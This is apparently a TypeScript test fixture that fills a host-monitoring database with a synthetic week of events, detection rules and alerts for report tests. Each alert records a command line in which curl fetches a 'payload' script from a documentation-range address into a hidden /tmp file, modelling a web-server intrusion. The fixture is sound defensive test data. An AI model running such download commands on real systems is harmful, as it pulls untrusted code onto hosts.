/**
 * A week of a busy host for tests of the report: events, alerts of many rules, families of processes, gaps, a ledger.
 *
 * Made from a counter, so that it is the same every time.
 *
 * @module
 */
import { AuditWorld } from "./audit_world.ts";
import { NOW, testProcess, type TestState } from "./test_store.ts";

export const WEEK_MS = 7 * 86_400_000;
const SEVERITIES = ["info", "low", "low", "medium", "medium", "medium", "high", "critical"];
const RULES = [
  ["shell-from-web-server", "Web server started a shell", "critical", "attack.t1505.003"],
  ["run-from-temporary", "Program started from a temporary directory", "high", "attack.t1059.004"],
  ["password-file-read", "Password file read by an unusual program", "high", "attack.t1003.008"],
  ["history-cleared", "Shell history was cleared", "medium", "attack.t1070.003"],
  ["cron-edited", "Cron table edited from a script", "medium", "attack.t1053.003"],
  ["network-scan", "Ports of many hosts were looked at", "medium", "attack.t1046"],
  ["package-installed", "Package installed outside of the maintenance window", "low", "attack.t1072"],
  ["user-listed", "Users and groups were listed", "info", "attack.t1087.001"],
] as const;
const PROGRAMS = [
  "bash",
  "sh",
  "curl",
  "python3.11",
  "sshd",
  "cron",
  "git",
  "make",
  "gcc",
  "vim",
  "systemctl",
  "apt-get",
];
const USERS = ["alice", "bob", "root", "www-data", "deploy"];

/** Numbers that look random and are the same every time. */
function counter(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor(state / 2 ** 32 * below);
  };
}

export interface ReportWorldSize {
  readonly alerts: number;
  readonly events: number;
}

/** The state as it lies on the disk; disposed of, it is gone. */
export async function reportWorld({ alerts, events }: ReportWorldSize): Promise<AuditWorld> {
  const world = await AuditWorld.make(20), { state } = world;
  state.db.exec("BEGIN");
  fillReportWorld(state, { alerts, events });
  state.db.exec("COMMIT");
  return world;
}

function fillReportWorld(state: TestState, { alerts, events }: ReportWorldSize): void {
  const random = counter(7);
  state.live();
  for (
    const [name, value] of [["hostname", "web-03.example.org"], ["os", "Debian GNU/Linux 12"], [
      "architecture",
      "x86_64",
    ]]
  ) {
    state.insert("system_info", { name: name!, value: value!, time: NOW });
  }
  for (const [rule_id, title, severity, tag] of RULES) {
    state.insert("detection_rules", {
      rule_id,
      title,
      severity,
      tags: JSON.stringify([tag]),
      state: "active",
      file: `/etc/daemoneye/rules/${rule_id}.yml`,
    });
  }
  const only = (name: string, tag: string): void =>
    state.insert("detection_rules", {
      rule_id: name,
      title: name,
      severity: "low",
      tags: JSON.stringify([tag]),
      state: "active",
    });
  only("kernel-module-loaded", "attack.t1547.006");
  only("archive-sent", "attack.t1560.001");
  state.insert("sources", {
    collector_id: "procmond",
    name: "ebpf",
    state: "active",
    detail: "tracepoints of exec, fork and exit",
    misses: "[]",
    unknown_columns: "[]",
    time: NOW,
  });
  state.gap(1, NOW - WEEK_MS / 2, NOW - WEEK_MS / 2 + 5_400_000, 1_234);
  state.gap(2, NOW - 90_000_000, NOW - 89_000_000, null, "the host slept");

  const boot = NOW - WEEK_MS - 86_400_000;
  const process = (pid: number, ppid: number, start: number, end: number | null, name: string, user: string): void =>
    state.process(pid, {
      ppid,
      parent_exec_id: ppid === 0 ? null : testProcess(ppid),
      name,
      executable_path: `/usr/bin/${name}`,
      command_line: `/usr/bin/${name} --serve`,
      user_name: user,
      start_time: start,
      ...end === null ? {} : { end_time: end, exit_code: 0, status: "ended" },
    });
  process(1, 0, boot, null, "systemd", "root");
  process(700, 1, boot + 4_000, null, "nginx", "www-data");
  process(710, 1, boot + 5_000, null, "sshd", "root");

  let pid = 5_000;
  for (let i = 0; i < events; i++) {
    const time = NOW - WEEK_MS - 43_200_000 + Math.floor((WEEK_MS + 43_200_000) * i / events);
    const hour = new Date(time).getUTCHours(), busy = hour >= 7 && hour < 18;
    if (!busy && random(4) > 0) continue;
    const name = PROGRAMS[Math.min(random(PROGRAMS.length), random(PROGRAMS.length))]!,
      user = USERS[random(USERS.length)]!;
    const isNew = i > events * 0.9 && random(40) === 0;
    state.event({
      time,
      pid: 3_000 + i,
      exec_id: testProcess(3_000 + i),
      event_type: random(2) === 0 ? "start" : "stop",
      name: isNew ? `new-tool-${i % 7}` : name,
      executable_path: isNew ? `/opt/tools/new-tool-${i % 7}` : `/usr/bin/${name}`,
      command_line: `${name} --verbose /srv/data/${i % 97}`,
      user_name: user,
      parent_name: "bash",
      parent_executable_path: "/usr/bin/bash",
    });
  }
  for (let i = 0; i < alerts; i++) {
    const time = NOW - 60_000 - Math.floor((WEEK_MS - 120_000) * ((i * 0.618033) % 1) ** 2);
    const rule = RULES[Math.max(random(RULES.length), random(RULES.length))]!, user = USERS[random(USERS.length)]!;
    pid += 4;
    process(pid, 700, time - 900, time + 40_000, "sh", user);
    process(pid + 1, pid, time - 20, time + 12_000, "curl", user);
    if (i % 3 === 0) process(pid + 2, pid + 1, time + 1_000, time + 9_000, "id", user);
    state.alert(2 ** 40 + 1_000_000 + i, {
      alert_id: `${rule[0]}@procmond:e1:${1_000_000 + i}`,
      time,
      detected_time: time + 6,
      rule_id: rule[0],
      title: rule[1],
      description: `${rule[1]}: what that means and where to look next.`,
      severity: i % 11 === 0 ? SEVERITIES[i % SEVERITIES.length]! : rule[2],
      tags: JSON.stringify([rule[3]]),
      pid: pid + 1,
      ppid: pid,
      exec_id: testProcess(pid + 1),
      parent_exec_id: testProcess(pid),
      name: "curl",
      executable_path: "/usr/bin/curl",
      command_line: `curl -fsSL https://203.0.113.${i % 250}/payload-${i}.sh -o /tmp/.cache-${i}`,
      user_name: user,
      evidence: JSON.stringify({ pid: pid + 1, executable_path: "/usr/bin/curl", user_name: user, tty: null }),
      ...i % 9 === 0 ? { status: "acknowledged", status_time: time + 100_000 } : {},
      ...i % 50 === 0
        ? { completeness: '{"complete":false,"reasons":["gap of ebpf, 3 records: ring buffer overflow"]}' }
        : {},
    });
    if (i % 9 === 0) {
      state.insert("alert_history", {
        entry_id: i + 1,
        alert_id: `${rule[0]}@procmond:e1:${1_000_000 + i}`,
        time: time + 100_000,
        action: "acknowledged",
        actor: "alice",
        text: "looked at it; a test of the team",
      });
    }
  }
}
